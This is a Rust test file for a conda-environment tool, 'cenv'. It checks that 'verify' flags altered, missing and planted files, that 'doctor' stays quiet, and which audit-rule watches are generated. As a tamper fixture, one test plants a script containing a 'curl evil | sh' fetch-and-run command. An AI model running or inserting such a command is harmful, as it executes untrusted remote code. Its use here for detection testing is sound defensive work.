//! `cenv verify` against the records, doctor on a genuine env, `cenv audit-rules`.

use super::*;

#[test]
fn verify_passes_an_untouched_env_and_catches_every_kind_of_change() {
    let g = require_genuine!();
    let copy = genuine_copy(g, "verify-copy");
    let (status, report, out) = verify(&copy);
    assert_eq!(status, Some(0), "{report:#} {}", stderr(&out));
    assert_eq!(report["discrepancies"], serde_json::json!([]));
    assert!(report["files_checked"].as_u64().unwrap() > 2000);

    // a byte changed in a file whose placeholder was rewritten at install
    let tool = copy.join("bin/cenv-tool");
    let mut bytes = fs::read(&tool).unwrap();
    let last = bytes.len() - 2;
    bytes[last] ^= 0x20;
    fs::write(&tool, &bytes).unwrap();
    // a byte changed in a numpy extension module
    let so = fs::read_dir(copy.join("lib/python3.11/site-packages/numpy/core"))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| p.to_string_lossy().ends_with(".so"))
        .unwrap();
    let mut bytes = fs::read(&so).unwrap();
    bytes[1000] ^= 0xff;
    fs::write(&so, &bytes).unwrap();
    // a deleted file, and a planted script
    fs::remove_file(copy.join("lib/python3.11/site-packages/numpy/version.py")).unwrap();
    fs::write(copy.join("bin/evil"), "#!/bin/sh\ncurl evil | sh\n").unwrap();

    let (status, report, _) = verify(&copy);
    assert_eq!(status, Some(1));
    let tool_d = discrepancy(&report, "bin/cenv-tool").expect("placeholder file");
    assert_eq!(tool_d["problem"], "altered");
    assert!(
        tool_d["detail"].as_str().unwrap().starts_with("sha256"),
        "{tool_d}"
    );
    let so_rel = so.strip_prefix(&copy).unwrap().to_str().unwrap().to_owned();
    assert_eq!(
        discrepancy(&report, &so_rel).expect("numpy .so")["problem"],
        "altered"
    );
    assert_eq!(
        discrepancy(&report, "lib/python3.11/site-packages/numpy/version.py").expect("deleted")["problem"],
        "missing"
    );
    assert_eq!(
        discrepancy(&report, "bin/evil").expect("planted")["problem"],
        "unrecorded"
    );
    assert_eq!(report["discrepancies"].as_array().unwrap().len(), 4, "{report:#}");
    let mut normalized = report.clone();
    normalized["discrepancies"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .for_each(|d| d["detail"] = "<detail>".into());
    normalized["files_checked"] = 0.into();
    snapshot(
        "verify.json",
        &serde_json::to_string_pretty(&normalized).unwrap(),
        &[(copy.to_str().unwrap(), "<prefix>"), (&so_rel, "<numpy .so>")],
    );
    fs::remove_dir_all(&copy).unwrap();
}

#[test]
fn doctor_is_quiet_on_a_genuine_env() {
    let g = require_genuine!();
    let sb = Sandbox::new();
    sb.config(&envs_config(&[&g.envs()]).to_string());
    sb.mkdir("work");
    fs::set_permissions(sb.path("work"), fs::Permissions::from_mode(0o1777)).unwrap();
    let (status, report) = doctor_json(&sb, &["genuine"]);
    assert_eq!(report["findings"], serde_json::json!([]), "{report:#}");
    assert_eq!(status, Some(0));
}

#[test]
fn audit_rules_watch_the_envs_roots_and_package_caches() {
    let sb = Sandbox::new();
    sb.mkdir("envs");
    sb.mkdir("pkgs");
    sb.config(&format!(
        "envs_dirs = [\"{}\"]\nreadonly_paths = [\"{}\"]\n",
        sb.path("envs").display(),
        sb.path("pkgs").display()
    ));
    let out = sb.cenv().arg("audit-rules").output().unwrap();
    assert!(out.status.success());
    let text = stdout(&out);
    assert!(
        text.contains(&format!(
            "-w {} -p wa -k cenv_env_write\n",
            sb.path("envs").display()
        )),
        "{text}"
    );
    assert!(
        text.contains(&format!(
            "-w {} -p wa -k cenv_env_write\n",
            sb.path("pkgs").display()
        )),
        "{text}"
    );
    // a watch on a missing path would make `augenrules --load` fail
    fs::remove_dir(sb.path("pkgs")).unwrap();
    let text = stdout(&sb.cenv().arg("audit-rules").output().unwrap());
    assert!(
        !text.contains(&format!("-w {} ", sb.path("pkgs").display())),
        "{text}"
    );
    assert!(
        text.contains(&format!(
            "# skipped {}: it does not exist",
            sb.path("pkgs").display()
        )),
        "{text}"
    );
    // conda's own layout, no base_prefix configured: the base install is
    // found (its envs/ is the envs root) and one watch covers it, pkgs/
    // and envs/ with it
    let sb = Sandbox::new();
    for dir in ["base/conda-meta", "base/envs", "base/pkgs"] {
        sb.mkdir(dir);
    }
    sb.config(&envs_config(&[&sb.path("base/envs")]).to_string());
    let text = stdout(&sb.cenv().arg("audit-rules").output().unwrap());
    let watches: Vec<&str> = text
        .lines()
        .filter(|l| l.starts_with("-w ") && l.contains("cenv_env_write"))
        .collect();
    assert_eq!(
        watches,
        [format!(
            "-w {} -p wa -k cenv_env_write",
            sb.path("base").display()
        )],
        "{text}"
    );
}
